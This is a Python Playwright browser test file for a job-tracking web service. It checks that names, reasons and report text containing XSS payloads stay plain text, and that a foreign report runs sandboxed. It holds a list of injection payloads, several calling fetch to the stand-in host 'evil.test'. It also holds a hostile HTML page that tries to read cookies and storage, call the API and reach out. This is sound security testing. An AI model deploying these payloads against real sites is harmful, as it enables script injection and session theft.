"""Markup and script in names, reasons, tags and training text do nothing, on the page and in the report it serves."""

from __future__ import annotations

from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page, Route, expect

from ilp_service.report.html import render_report
from ilp_service.service.desk import STATUSES
from ilp_service.service.reports import StoredReports
from ilp_service.tracking.store import Tracking
from tests.browser import watched
from tests.report.inputs import HOSTILE, report_input
from tests.service.made_up_desk import MadeUpDesk
from tests.service.web import MadeUpReports, application, served

_DO = "window.harmed=1;alert(1);fetch(`//evil.test/`)"
HARM = (
    f"<script>{_DO}</script>",
    f'"><img src=x onerror="{_DO}">',
    f"' autofocus onfocus='{_DO}' x='",
    f"</title></textarea></style></script><script>{_DO}</script>",
    f"<svg><script href=data:,{_DO} /></svg>",
    f"javascript:{_DO}//",
    f"{{{{ 7*7 }}}}{{% for x in () %}}${{{_DO}}}",
    "<base href=//evil.test/><meta http-equiv=refresh content='0;url=//evil.test/'>",
    f"<iframe srcdoc='<script>parent.{_DO}</script>'></iframe><form action=//evil.test/>",
    "\u202edesrever\u202c \u2028\u2029 \x00\x1b]0;\ud800",
    "--><!--[if IE]><object data=//evil.test/>",
)


@pytest.fixture
def desk() -> MadeUpDesk:
    desk, now = MadeUpDesk(), datetime.now(UTC)
    for number, harm in enumerate(HARM):
        for status in STATUSES:
            desk.put(
                f"{harm}{status}", "1", status, reason=None if number % 2 else harm, step=harm, run_id=harm,
                report_uri=harm, top_cause=harm, via=harm, unlearned_rate=0.5, started_at=now,
            )  # fmt: skip
    return desk


@pytest.fixture
def page(page: Page) -> Iterator[Page]:
    """A page that fails the test when anything asks for anything outside of the service."""
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    yield page
    assert asked
    assert [url for url in asked if not url.startswith("http://127.0.0.1:")] == []


def unharmed(page: Page) -> None:
    """Nothing that came from outside is more than text."""
    assert page.evaluate("window.harmed") is None
    assert page.locator("img, iframe, svg, object, base, meta[http-equiv]").count() == 0
    assert page.locator("script").count() <= 1
    handlers = (
        "[...document.querySelectorAll('*')].flatMap(n => [...n.attributes]).filter(a => a.name.startsWith('on'))"
    )
    assert page.evaluate(f"{handlers}.length") == 0
    ways = page.evaluate(
        "[...document.querySelectorAll('[href], [action], [src]')].map(n => n.href || n.action || n.src)"
    )
    assert [way for way in ways if not str(way).startswith("http://127.0.0.1:")] == []


def test_names_and_reasons_are_text(page: Page, desk: MadeUpDesk) -> None:
    with served(application(desk, tracking_uri="http://127.0.0.1:5000")) as address:
        for status in ("", *STATUSES):
            page.goto(f"{address}/?status={status}")
            unharmed(page)
        for harm in HARM[:-2]:
            page.goto(address)
            page.get_by_label("Model", exact=True).fill(harm)
            with page.expect_navigation():
                page.get_by_role("button", name="Filter").click()
            unharmed(page)
            expect(page.get_by_label("Model", exact=True)).to_have_value(harm)
            assert f"{harm}running" in page.locator("#live-running .row th .name").all_text_contents()
        for job in list(desk.made.values())[:: len(STATUSES) - 1]:
            page.goto(f"{address}/jobs/{job.job_id}")
            unharmed(page)
        # The script that renews the page puts in what the server wrote, and no more.
        page.goto(address)
        desk.put(f"{HARM[1]}new", "1", "running", reason=HARM[0])
        expect(page.locator("#live-running")).to_contain_text(f"{HARM[1]}new", timeout=10_000)
        unharmed(page)


def test_training_text_in_the_report_is_text(page: Page, workplace: Path) -> None:
    tracking = Tracking(f"sqlite:///{workplace / 'mlruns' / 'mlflow.db'}")
    html = render_report(report_input(40, 20, hostile=True, groups=True))
    (workplace / "report.html").write_text(html, encoding="utf-8")
    with tracking.run("diagnose", {"note": HOSTILE}) as run:
        uri = run.log_file(workplace / "report.html")
    desk = MadeUpDesk()
    job = desk.put(HOSTILE, status="done", report_uri=uri)
    with served(application(desk, reports=StoredReports(tracking))) as address:
        page.goto(f"{address}/jobs/{job.job_id}")
        page.get_by_role("link", name="Open the report").click()
        page.locator(".toggle").first.click()
        for summary in page.locator("#detail summary").all():
            summary.click()
        expect(page.locator("#detail .text").first).to_contain_text(HOSTILE.rstrip("\u2028"))
        assert page.evaluate("window.harmed") is None
        assert page.locator("img").count() == 0
        assert page.locator("script").count() == 2


def test_a_report_that_is_none_of_ours_reaches_nothing(browser: Browser, desk: MadeUpDesk) -> None:
    """Its script runs in an origin of its own: no cookie, no API, no other address, no way out of the tab."""
    reports = MadeUpReports()
    reports.made[
        "r.html"
    ] = b"""<!doctype html><title>r</title><form action=/jobs method=post><input name=model value=x>
    <input name=version value=1></form><img src=http://evil.test/i><link rel=stylesheet href=http://evil.test/s><script>
    const tried = document.tried = {};
    const note = name => error => tried[name] = error ? String(error.name || error) : "done";
    try { tried.cookie = document.cookie } catch (error) { note("cookie")(error) }
    try { localStorage.x = 1; tried.storage = "done" } catch (error) { note("storage")(error) }
    for (const [name, url] of [["api", "/api/jobs"], ["out", "http://evil.test/"]]) {
      tried[name] = "waits"; fetch(url, {credentials: "include"}).then(() => note(name)(), note(name)); }
    tried.window = String(window.open("http://evil.test/"));
    document.forms[0].submit();
    </script>"""
    job = desk.put("good name", status="done", report_uri="r.html")
    before = len(desk.made)
    context = browser.new_context()
    context.add_cookies([{"name": "ilp_session", "value": "x", "domain": "127.0.0.1", "path": "/"}])
    page = context.new_page()
    reached: list[str] = []

    def reach(route: Route) -> None:
        reached.append(route.request.url)
        route.abort()

    context.route("http://evil.test/**", reach)
    wrong = watched(page)
    with served(application(desk, reports=reports)) as address:
        page.goto(f"{address}/jobs/{job.job_id}/report")
        page.wait_for_function(
            "Object.values(document.tried).length === 5 && !Object.values(document.tried).includes('waits')"
        )
        tried = page.evaluate("document.tried")
        denied = {"cookie": "SecurityError", "storage": "SecurityError", "api": "TypeError", "out": "TypeError"}
        assert tried == {**denied, "window": "null"}
        assert page.url.endswith("/report")
    assert len(desk.made) == before
    assert reached == []
    assert wrong
    assert all("Content Security Policy" in text or "sandbox" in text for text in wrong), wrong
    assert len(context.pages) == 1
    context.close()
